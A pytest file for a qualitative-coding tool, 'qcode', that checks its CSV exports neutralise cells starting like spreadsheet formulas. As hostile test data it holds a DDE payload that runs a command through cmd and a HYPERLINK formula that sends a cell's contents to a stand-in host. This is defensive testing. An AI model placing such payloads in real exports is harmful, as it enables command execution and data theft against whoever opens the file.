"""No CSV qcode writes can run a formula: one writer module, and every CSV export run over a
project whose names, values, memos and coded text start like formulas."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update
from sqlalchemy.orm import Session

from qcode.analysis import (
    CooccurrenceOptions,
    MatrixOptions,
    SegmentOptions,
    build_cooccurrence,
    build_matrix,
    coded_segments,
)
from qcode.analysis.attributes_by_code import AttributesByCodeOptions, build_attributes_by_code
from qcode.export.agreement_files import write_agreement_csv
from qcode.export.attributes_by_code import write_attributes_by_code_csv
from qcode.export.codebook_csv import export_codebook_csv
from qcode.export.csv_file import write_csv_rows
from qcode.export.kwic import write_kwic_csv
from qcode.export.manifest import Source
from qcode.export.matrix_csv import write_cooccurrence_csv, write_matrix_csv
from qcode.export.segments_csv import write_segments_csv
from qcode.export.words import write_words_csv
from qcode.formula_guard import FORMULA_STARTS, neutralise, unguard
from qcode.models import Code, Coding
from qcode.search.kwic import build_kwic
from qcode.search.query import SearchQuery
from qcode.search.words import WordOptions, word_frequencies
from qcode.team.agreement import measure_agreement
from qcode.team.options import AgreementOptions
from tests.analysis_world import Doc, World, write_world

ROOT = Path(__file__).resolve().parents[1]
QCODE = ROOT / "qcode"
WRITER_MODULE = QCODE / "export" / "csv_file.py"
WRITE_HELPERS = {"write_csv_rows", "write_table_csv"}
SOURCE = Source("=HYPERLINK(\"http://x.test\",\"study\")", "00000000-0000-4000-8000-000000000002")

RUNS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
LINK = '=HYPERLINK("x.test?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
TEXT = f"{DDE} said.\n+1+2 counts\n-minus line\n@SUM(A1) here\n\ttab start\r\nplain -3"


def _span(piece: str) -> tuple[int, int]:
    start = TEXT.index(piece)
    return start, start + len(piece)


HOSTILE = World(
    docs=(Doc(1, LINK, TEXT, 0), Doc(2, "-3", TEXT, 1), Doc(3, "@doc", TEXT, 2)),
    codes=((1, None, LINK, 0), (2, 1, "+child", 0), (3, None, "-3", 1), (4, None, "@at", 2),
           (5, None, "\ttab", 3), (6, None, "\rcr", 4), (7, None, "-minus", 5)),
    coders=((1, "+Amal"), (2, "@Bashir")),
    attributes=((1, "=role", "text"), (2, "-years", "number")),
    values={(1, 1): "@admin", (2, 1): "-3", (3, 1): DDE, (1, 2): "+4.5", (2, 2): "1e3"},
    turns=((1, 1, "=Interviewer", 0, 20), (2, 1, "-E01", 20, len(TEXT)),
           (3, 2, "@E02", 0, len(TEXT))),
    codings=((1, 1, 1, 1, *_span(DDE)), (2, 1, 2, 2, *_span("+1+2 counts")),
             (3, 2, 3, 1, *_span("-minus line")), (4, 2, 4, 2, *_span("@SUM(A1) here")),
             (5, 3, 5, 1, *_span("\ttab start")), (6, 3, 6, 2, *_span("\r\nplain")),
             (7, 1, 7, 1, *_span(f"{DDE} said")), (8, 2, 1, 2, *_span("plain -3"))),
)
DESCRIPTIONS = {1: "=1+1", 2: "+x", 3: "-x", 4: "@x", 5: "\tx", 6: "\rx", 7: "-3"}
MEMOS = {1: "=memo", 2: "+memo", 3: "-memo", 4: "@memo", 5: "\tmemo", 6: "\rmemo", 7: "+4.5"}


def write_hostile(project) -> None:  # noqa: ANN001 - a qcode Project
    write_world(project, HOSTILE)
    with project.transaction() as s:
        for code_id, text in DESCRIPTIONS.items():
            s.execute(update(Code).where(Code.id == code_id).values(description=text))
        for coding_id, text in MEMOS.items():
            s.execute(update(Coding).where(Coding.id == coding_id).values(memo=text))


def _matrices(s: Session, out: Path) -> list[Path]:
    paths = []
    for columns, attribute in (("documents", None), ("attribute", "=role"), ("speakers", None),
                               ("attribute", "-years")):
        path = out / f"matrix-{columns}-{attribute}.csv"
        matrix = build_matrix(s, MatrixOptions(columns=columns, attribute=attribute,
                                               measure="coverage", rollup=True))
        write_matrix_csv(matrix, path, source=SOURCE)
        paths.append(path)
    return paths


def _cooccurrence(s: Session, out: Path) -> list[Path]:
    paths = []
    for mode in ("overlap", "turn"):
        path = out / f"pairs-{mode}.csv"
        write_cooccurrence_csv(build_cooccurrence(s, CooccurrenceOptions(mode=mode)), path,
                               source=SOURCE, bom=True)
        paths.append(path)
    return paths


def _segments(s: Session, out: Path) -> list[Path]:
    write_segments_csv(coded_segments(s, SegmentOptions()), out / "segments.csv", source=SOURCE)
    return [out / "segments.csv"]


def _codebook(s: Session, out: Path) -> list[Path]:
    export_codebook_csv(s, out / "codebook.csv")
    return [out / "codebook.csv"]


def _agreement(s: Session, out: Path) -> list[Path]:
    table = measure_agreement(s, AgreementOptions(coders=("+Amal", "@Bashir"), rollup=True))
    write_agreement_csv(table, out / "agreement.csv", source=SOURCE)
    return [out / "agreement.csv"]


def _attributes_by_code(s: Session, out: Path) -> list[Path]:
    paths = []
    for attribute in ("=role", "-years"):
        table = build_attributes_by_code(s, AttributesByCodeOptions(attribute, rollup=True))
        paths.append(out / f"attributes{attribute}.csv")
        write_attributes_by_code_csv(table, paths[-1], source=SOURCE)
    return paths


def _kwic(s: Session, out: Path) -> list[Path]:
    """Every line as a hit: hits, context, speakers, documents and codes that start like
    formulas."""
    table = build_kwic(s, SearchQuery("(?m)^.+$", mode="regex", context=3))
    write_kwic_csv(table, out / "kwic.csv", source=SOURCE)
    return [out / "kwic.csv"]


def _words(s: Session, out: Path) -> list[Path]:
    """Grouped by document and by code: headings that start like formulas."""
    paths = []
    for by in ("document", "code"):
        paths.append(out / f"words-{by}.csv")
        write_words_csv(word_frequencies(s, WordOptions(by=by)), paths[-1],  # type: ignore[arg-type]
                        source=SOURCE)
    return paths


#: Every function that writes CSV, and how to run it over the hostile project.
EXPORTS: dict[Callable, Callable[[Session, Path], list[Path]]] = {
    write_matrix_csv: _matrices, write_cooccurrence_csv: _cooccurrence,
    write_segments_csv: _segments, export_codebook_csv: _codebook,
    write_agreement_csv: _agreement, write_attributes_by_code_csv: _attributes_by_code,
    write_kwic_csv: _kwic, write_words_csv: _words,
}


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def can_run(cell: str) -> bool:
    return cell.startswith(RUNS_AS_FORMULA) and not PLAIN_NUMBER.fullmatch(cell)


def _calls(func: ast.FunctionDef) -> set[str]:
    names = set()
    for node in ast.walk(func):
        if isinstance(node, ast.Call):
            f = node.func
            names.add(f.id if isinstance(f, ast.Name) else getattr(f, "attr", ""))
    return names


def _modules() -> list[tuple[str, ast.Module]]:
    return [(".".join(p.relative_to(ROOT).with_suffix("").parts),
             ast.parse(p.read_text(encoding="utf-8")))
            for p in QCODE.rglob("*.py") if p != WRITER_MODULE]


def test_only_the_csv_file_module_writes_csv():
    """A CSV written any other way would skip the formula guard."""
    offenders = []
    for module, tree in _modules():
        for node in ast.walk(tree):
            if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name) and node.value.id == "csv"):
                offenders.append(f"{module}: csv.{node.attr}")
            elif isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    a.name in ("writer", "DictWriter") for a in node.names):
                offenders.append(f"{module}: from csv import writer")
    assert offenders == []


def test_every_csv_export_is_run_over_the_hostile_project():
    writers = {f"{module}.{node.name}" for module, tree in _modules() for node in ast.walk(tree)
               if isinstance(node, ast.FunctionDef) and _calls(node) & WRITE_HELPERS}
    assert writers == {f"{f.__module__}.{f.__name__}" for f in EXPORTS}


@pytest.mark.parametrize("export", EXPORTS, ids=lambda f: f.__name__)
def test_no_cell_of_any_csv_export_can_run_as_a_formula(project, tmp_path, export):
    write_hostile(project)
    with project.reading() as s:
        paths = EXPORTS[export](s, tmp_path)
    for path in paths:
        cells = [c for row in read_cells(path) for c in row]
        assert [c for c in cells if can_run(c)] == [], path.name
        assert "'" + LINK in cells or "'" + LINK + "/+child" in cells, path.name
        assert "-3" in cells, path.name  # the code (or document, value) "-3" stays a number
    with project.reading() as s:  # the project keeps every name as typed
        assert s.get(Code, 1).name == LINK and s.get(Code, 5).description == "\tx"


def test_segments_guard_every_column_and_leave_numbers_alone(project, tmp_path):
    write_hostile(project)
    with project.reading() as s:
        [path] = _segments(s, tmp_path)
    header, *rows = read_cells(path)
    assert header[1:3] == ["'=role", "'-years"]
    record = {r[header.index("memo")]: dict(zip(header, r, strict=True)) for r in rows}
    first = record["'=memo"]
    assert (first["document"], first["'=role"], first["'-years"]) == ("'" + LINK, "'@admin",
                                                                     "+4.5")
    assert (first["coder"], first["speaker"], first["text"]) == ("'+Amal", "'=Interviewer",
                                                                "'" + DDE)
    assert record["'\tmemo"]["text"] == "'\ttab start"
    assert record["'\rmemo"]["text"] == "'\r\nplain"
    assert record["+4.5"]["code"] == "'-minus"
    assert {r[header.index("'-years")] for r in rows} == {"+4.5", "1e3", ""}


def test_codebook_export_guards_paths_and_descriptions(project, tmp_path):
    write_hostile(project)
    with project.reading() as s:
        [path] = _codebook(s, tmp_path)
    assert read_cells(path) == [
        ["path", "colour", "description"],
        ["'" + LINK, "#9e9e9e", "'=1+1"], ["'" + LINK + "/+child", "#9e9e9e", "'+x"],
        ["-3", "#9e9e9e", "'-x"], ["'@at", "#9e9e9e", "'@x"], ["'\ttab", "#9e9e9e", "'\tx"],
        ["'\rcr", "#9e9e9e", "'\rx"], ["'-minus", "#9e9e9e", "-3"]]


def test_write_csv_rows_to_a_stream_guards_text_not_numbers():
    out = io.StringIO(newline="")
    write_csv_rows(out, [["=1+1", "+1+2", "-x", "@x", "\tx", "\rx", "|x", "a=b"],
                         ["-3", "+4.5", "1e3", -3, 4.5, None, "", " =x"]])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'=1+1", "'+1+2", "'-x", "'@x", "'\tx", "'\rx", "|x", "a=b"],
        ["-3", "+4.5", "1e3", "-3", "4.50", "", "", " =x"]]
    assert out.getvalue().endswith("\r\n")


def test_qcode_codebook_export_writes_no_live_formula(tmp_path):
    study, out = tmp_path / "study.qcode", tmp_path / "codebook.csv"

    def qcode(*args: str | Path) -> str:
        result = subprocess.run([sys.executable, "-m", "qcode", *map(str, args)],
                                capture_output=True, text=True, encoding="utf-8", cwd=ROOT,
                                timeout=120)
        assert result.returncode == 0, result.stderr
        return result.stdout

    qcode("new", study)
    qcode("code", "add", study, LINK, f"--description={DDE}")
    qcode("code", "add", study, "@mention", "--description=-3")
    qcode("codebook", "export", study, out)
    assert [(path, description) for path, _, description in read_cells(out)[1:]] == [
        ("'" + LINK, "'" + DDE), ("'@mention", "-3")]
    codes = json.loads(qcode("codes", study, "--json"))
    assert [(c["name"], c["description"]) for c in codes] == [(LINK, DDE), ("@mention", "-3")]


def test_a_guarded_codebook_comes_back_as_typed(tmp_path, capsys):
    """Export then import: the guard's ``'`` is dropped again, so no code is duplicated."""
    from qcode.cli.main import main

    first, second, out = tmp_path / "a.qcode", tmp_path / "b.qcode", tmp_path / "codebook.csv"
    assert main(["new", str(first)]) == main(["new", str(second)]) == 0
    for path, description in ((LINK, DDE), ("@mention", "-1e3"), ("'quoted", "=x"),
                              ("'=typed with its apostrophe", "'-- kept")):
        assert main(["code", "add", str(first), path, f"--description={description}"]) == 0
    assert main(["codebook", "export", str(first), str(out)]) == 0
    assert read_cells(out)[2][2] == "-1e3"  # a number stays a number
    for target in (second, first):  # a fresh project, then the one it came from
        assert main(["codebook", "import", str(target), str(out)]) == 0
    capsys.readouterr()
    for target in (first, second):
        assert main(["codes", str(target), "--json"]) == 0
        codes = json.loads(capsys.readouterr().out)
        assert sorted((c["name"], c["description"]) for c in codes) == sorted(
            [(LINK, DDE), ("@mention", "-1e3"), ("'quoted", "=x"),
             ("'=typed with its apostrophe", "'-- kept")])


#: texts made of the characters that matter here, so the edge cases come up often
TEXTS = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "e",
                                          "a", " ", "ث"]), max_size=8) | st.text(max_size=12)


@given(TEXTS)
def test_every_text_comes_back_as_typed(text):
    assert unguard(neutralise(text)) == text


@given(TEXTS)
def test_nothing_written_starts_a_formula_but_a_plain_number(text):
    written = neutralise(text)
    if written.startswith(FORMULA_STARTS):
        float(written)  # "-5", "+2.5": a number, which cannot run


def test_a_name_typed_with_its_apostrophe_is_not_taken_for_a_guarded_one():
    assert neutralise("'=x") == "''=x" and unguard("''=x") == "'=x"
    assert neutralise("=x") == "'=x" and unguard("'=x") == "=x"
    assert neutralise("'hello") == "'hello" == unguard("'hello")
